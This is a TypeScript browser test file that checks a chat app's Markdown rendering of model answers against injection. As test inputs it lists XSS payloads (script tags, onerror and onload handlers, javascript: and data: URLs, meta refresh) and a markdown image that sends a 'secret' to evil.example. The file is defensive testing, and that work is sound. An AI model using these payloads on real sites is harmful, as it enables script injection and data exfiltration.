// A model's text is hostile until proven otherwise: nothing in it may load, run, or lead anywhere but to a web page.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { page } from 'vitest/browser';
import { answerMessage, conversationOf, questionMessage } from '../../support/answers.ts';
import { showChat } from './stage.tsx';

const violations: string[] = [];

beforeAll(() => {
  // As strict as the app's own page where it counts here; `report` shows what was tried.
  const policy = document.createElement('meta');
  policy.httpEquiv = 'Content-Security-Policy';
  policy.content =
    "style-src 'self'; img-src 'none'; media-src 'none'; frame-src 'none'; object-src 'none'; base-uri 'none'; form-action 'none'";
  document.head.append(policy);
  document.addEventListener('securitypolicyviolation', (event) =>
    violations.push(`${event.violatedDirective} ${event.blockedURI}`),
  );
});
afterEach(() => {
  violations.length = 0;
});

async function show(text: string): Promise<HTMLElement> {
  await showChat({
    conversations: [conversationOf('Hostile', [questionMessage('?'), answerMessage('done', `${text}\n\n**end**`)])],
  });
  // In strong letters only Markdown's renderer writes it.
  await expect.element(page.getByText('end')).toBeVisible();
  await expect.poll(() => document.querySelector('.prose strong')).not.toBeNull();
  const prose = document.querySelector<HTMLElement>('.prose');
  if (!prose) throw new Error('no prose');
  return prose;
}

describe('hostile text', () => {
  it.each(['constructor', '__proto__', 'toString'])('takes a language called %s for a name', async (language) => {
    await show('```' + language + '\na = 1\n```');
    await expect.element(page.getByRole('group', { name: `Code, ${language}` })).toBeVisible();
  });

  it.each([
    ['a remote picture', '![cat](https://evil.example/cat.png?q=secret)', 'Image not loaded: cat'],
    ['a picture without words', '![](https://evil.example/cat.png)', 'Image not loaded'],
    ['a picture by reference', '![cat][1]\n\n[1]: https://evil.example/cat.png', 'Image not loaded: cat'],
    [
      'a picture inside a link',
      '[![cat](https://evil.example/a.png)](https://evil.example/b)',
      'Image not loaded: cat',
    ],
    ['a data picture', '![cat](data:image/svg+xml;base64,PHN2Zy8+)', 'Image not loaded'],
    ['a picture tag', '<img src=x onerror="window.hacked = 1">', '<img src=x'],
    ['a script', '<script>window.hacked = 1</script>', '<script>'],
    ['a script in a paragraph', 'see <script>window.hacked = 1</script> there', '<script>'],
    ['a frame', '<iframe src="https://evil.example"></iframe>', '<iframe'],
    ['a style', '<style>body { display: none }</style>', '<style>'],
    ['a form', '<form action="https://evil.example"><input name=a><button>go</button></form>', '<form'],
    ['an svg', '<svg onload="window.hacked = 1"><use href="https://evil.example#x"/></svg>', '<svg'],
    ['a base', '<base href="https://evil.example/">', '<base'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<meta'],
  ])('shows %s as words and does nothing', async (_name, text, shown) => {
    const prose = await show(text);
    expect(prose.textContent).toContain(shown);
    expect(
      prose.querySelectorAll(
        'img, script, iframe, style, form, input, svg:not(.lucide), base, meta, object, embed, video, audio, link',
      ),
    ).toHaveLength(0);
    expect(document.head.querySelector('base')).toBeNull();
    expect('hacked' in window).toBe(false);
    expect(violations).toEqual([]);
    expect(performance.getEntriesByType('resource').filter((entry) => entry.name.includes('evil.example'))).toEqual([]);
  });

  it.each([
    'javascript:window.hacked=1',
    'JaVaScRiPt:window.hacked=1',
    'java\tscript:window.hacked=1',
    '&#106;avascript:window.hacked=1',
    'data:text/html,<script>window.hacked=1</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://evil.example/7e1c0a1e',
    'app://hearth/index.html',
    'hearth:open',
    '//evil.example',
    '/relative',
    '#top',
    'irc://evil.example',
    'tel:112',
  ])('makes no link of %s', async (address) => {
    const prose = await show(`[press me](<${address}>)`);
    expect(prose.textContent).toContain('press me');
    expect(prose.querySelectorAll('a')).toHaveLength(0);
    expect(violations).toEqual([]);
  });

  it.each(['https://example.org/a?b=c', 'http://example.org/', 'mailto:someone@example.org'])(
    'opens %s outside',
    async (address) => {
      const prose = await show(`[press me](${address})`);
      const link = prose.querySelector('a');
      expect(link?.href).toBe(address);
      expect(link?.target).toBe('_blank');
      expect(link?.rel).toContain('noopener');
    },
  );

  it('shows everything that Markdown has without a word against the page’s policy', async () => {
    const prose = await show(
      [
        '# One',
        '- a',
        '- [ ] b',
        '',
        '3. c',
        '',
        '> quote',
        '',
        '| a | b |',
        '|---|--:|',
        '| 1<br>2 | 2 |',
        '',
        '```js',
        'let a = "<b>";',
        '```',
        '',
        '~~no~~ `x`[^1]',
        '',
        '---',
        '',
        '[^1]: note',
      ].join('\n'),
    );
    expect(violations).toEqual([]);
    expect(prose.querySelector('.code code')?.textContent).toBe('let a = "<b>";');
    expect(prose.querySelector('td br')).not.toBeNull();
    expect(prose.querySelector('ol')?.start).toBe(3);
    expect(prose.querySelector('h2')?.textContent).toBe('One');
    expect(document.querySelectorAll('.prose style')).toHaveLength(0);
  });

  it('shows the text of a question as it was typed', async () => {
    await showChat({
      conversations: [conversationOf('Q', [questionMessage('<b>**x**</b>\n  ![a](https://evil.example/a.png)')])],
    });
    await expect.element(page.getByRole('article', { name: 'You' })).toBeVisible();
    expect(document.querySelector('.bubble')?.textContent).toBe('<b>**x**</b>\n  ![a](https://evil.example/a.png)');
  });
});
